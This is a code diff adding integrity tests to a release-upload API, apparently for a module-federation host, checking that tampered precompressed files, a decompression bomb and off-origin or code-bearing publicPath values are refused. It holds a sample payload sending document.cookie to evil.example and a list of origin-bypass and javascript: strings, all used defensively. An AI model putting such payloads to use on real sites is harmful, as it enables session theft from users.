@@ -1,7 +1,7 @@
 import { mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
-import { gzipSync } from 'node:zlib';
+import { brotliCompressSync, brotliDecompressSync, constants as zlib, gunzipSync, gzipSync } from 'node:zlib';
 import { pack } from 'tar-stream';
 import { packArchive, readFolder } from '../src/modules/release/archive';
 import { DEFAULT_ARCHIVE_LIMITS } from '../src/modules/release/settings';
@@ -20,6 +20,8 @@ let deploy: string;
 let builds: string;
 let publicToken: string;
 
+/** This deployment's origin: the one a version's publicPath may name besides `auto`. */
+const APP_URL = 'https://lpk.example';
 const limits = { ...DEFAULT_ARCHIVE_LIMITS, maxBytes: 256 * 1024, maxFiles: 20, maxFileBytes: 64 * 1024 };
 
 beforeAll(async () => {
@@ -27,6 +29,7 @@ beforeAll(async () => {
   builds = mkdtempSync(path.join(tmpdir(), 'lpk-release-builds-'));
   writeShell(deploy);
   t = await createTestApp({
+    appUrl: APP_URL,
     site: { staticDir: deploy, apiBaseUrl: '', wsHost: '', chatUrl: '', gtmId: '' },
     release: { archive: limits, cacheBytes: 1024 * 1024, canaryStop: { enabled: true, percent: 5, minLoads: 20, windowMs: 600_000 }, s3: undefined },
   });
@@ -175,5 +178,101 @@ describe('release API', () => {
     expect(stopped.stopped.reason).toContain('3 of 42 networks (7.1 %)');
     const history = await call(t.app, 'GET', '/api/lpk/release/history?limit=1', { token: publicToken });
     expect(history.body.data.items[0]).toMatchObject({ actor: 'automatic', command: 'auto-stop', result: 'ok', version: '1.1.0', stable_after: '1.0.0' });
+  });
+});
+
+/** A build's files (as --from reads them) changed by `edit`, as the .tar.gz a CI would upload. */
+async function editedArchive(version: string, options: FakeBuildOptions, edit: (files: Map<string, Buffer>) => void): Promise<Buffer> {
+  const files = await readFolder(fakeBuild(builds, 'mf-public', version, options));
+  edit(files);
+  return packArchive(files);
+}
+
+const EVIL = Buffer.from('fetch("https://evil.example/?c=" + document.cookie)');
+
+describe('release integrity', () => {
+  test('precompressed copies that decompress to their file are kept, and a browser that accepts them gets exactly the checked bytes', async () => {
+    const res = await upload('4.0.0', await archiveOf('4.0.0', { precompress: true, publicPath: 'auto' }));
+    expect(res.statusCode).toBe(201);
+    const plain = await t.app.inject({ method: 'GET', url: '/remotes/mf-public/4.0.0/remoteEntry.js' });
+    for (const [encoding, inflate] of [
+      ['br', brotliDecompressSync],
+      ['gzip', gunzipSync],
+    ] as const) {
+      const sent = await t.app.inject({ method: 'GET', url: '/remotes/mf-public/4.0.0/remoteEntry.js', headers: { 'accept-encoding': encoding } });
+      expect(sent.statusCode).toBe(200);
+      expect(sent.headers['content-encoding']).toBe(encoding);
+      expect(inflate(sent.rawPayload).equals(plain.rawPayload)).toBe(true);
+    }
+  });
+
+  test.each([
+    ['a brotli copy of other JavaScript', 'remoteEntry.js.br', (f: Map<string, Buffer>) => f.set('remoteEntry.js.br', brotliCompressSync(EVIL))],
+    ['a gzip copy of other JavaScript', 'remoteEntry.js.gz', (f: Map<string, Buffer>) => f.set('remoteEntry.js.gz', gzipSync(EVIL))],
+    [
+      'a copy with something appended',
+      '707.deadbeef.js.gz',
+      (f: Map<string, Buffer>) => f.set('707.deadbeef.js.gz', gzipSync(Buffer.concat([f.get('707.deadbeef.js')!, EVIL]))),
+    ],
+    ['a damaged copy', '707.deadbeef.js.br', (f: Map<string, Buffer>) => f.set('707.deadbeef.js.br', Buffer.from('not brotli at all'))],
+    ['a copy without its original', 'extra.js.br', (f: Map<string, Buffer>) => f.set('extra.js.br', brotliCompressSync(EVIL))],
+    [
+      'a decompression bomb (40 MB of brotli in a few bytes)',
+      'remoteEntry.js.br',
+      (f: Map<string, Buffer>) =>
+        f.set('remoteEntry.js.br', brotliCompressSync(Buffer.alloc(40 * 1024 * 1024), { params: { [zlib.BROTLI_PARAM_QUALITY]: 1 } })),
+    ],
+  ])('refuses %s with a 422 naming the file (localised), and stores and serves nothing of it', async (_name, file, edit) => {
+    const archive = await editedArchive('4.1.0', { precompress: true }, edit);
+    const started = Date.now();
+    const en = await upload('4.1.0', archive, { lang: 'en' });
+    expect(Date.now() - started).toBeLessThan(5_000);
+    expect(en.statusCode).toBe(422);
+    expect(en.json().message).toBe('Refused: mf-public@4.1.0 cannot be served.');
+    expect(en.json().errors.release.join(' ')).toContain(file);
+    const id = await upload('4.1.0', archive);
+    expect(id.statusCode).toBe(422);
+    expect(id.json().errors.release.join(' ')).toMatch(new RegExp(`${file.replace(/\./g, '\\.')} (tidak terdekompresi|adalah salinan terkompresi)`));
+    for (const encoding of ['br', 'gzip', 'identity']) {
+      const served = await t.app.inject({ method: 'GET', url: '/remotes/mf-public/4.1.0/remoteEntry.js', headers: { 'accept-encoding': encoding } });
+      expect(served.statusCode).toBe(404);
+    }
+    const status = await call(t.app, 'GET', '/api/lpk/release/status', { token: publicToken });
+    expect(status.body.data.remotes[0].published).not.toContain('4.1.0');
+  });
+
+  test.each([
+    'https://evil.example/',
+    '//evil.example/remotes/',
+    '/\\evil.example/',
+    'https://lpk.example.evil.example/',
+    'https://lpk.example@evil.example/',
+    'http://lpk.example/',
+    'javascript:alert(1)//',
+    'remotes/mf-public/',
+    ' /remotes/',
+  ])('refuses a manifest whose publicPath is %j (422 naming it, localised)', async (publicPath) => {
+    const archive = await archiveOf('5.0.0', { publicPath });
+    const en = await upload('5.0.0', archive, { lang: 'en' });
+    expect(en.statusCode).toBe(422);
+    expect(en.json().errors.release).toEqual([expect.stringContaining(`manifest publicPath "${publicPath}" is refused`)]);
+    const id = await upload('5.0.0', archive);
+    expect(id.json().errors.release).toEqual([expect.stringContaining(`publicPath manifes "${publicPath}" ditolak`)]);
+    expect((await t.app.inject({ method: 'GET', url: '/remotes/mf-public/5.0.0/remoteEntry.js' })).statusCode).toBe(404);
+  });
+
+  test('refuses getPublicPath (code the federation runtime would evaluate in every browser)', async () => {
+    const res = await upload('5.0.1', await archiveOf('5.0.1', { getPublicPath: 'function(){return "https://evil.example/"}' }), { lang: 'en' });
+    expect(res.statusCode).toBe(422);
+    expect(res.json().errors.release[0]).toContain('publicPath "getPublicPath" is refused');
+  });
+
+  test.each([
+    ['5.1.0', 'auto'],
+    ['5.1.1', '/remotes/mf-public/5.1.1/'],
+    ['5.1.2', `${APP_URL}/remotes/mf-public/5.1.2/`],
+  ])('accepts %s with publicPath %j (same origin)', async (version, publicPath) => {
+    const res = await upload(version, await archiveOf(version, { publicPath }));
+    expect(res.statusCode).toBe(201);
   });
 });
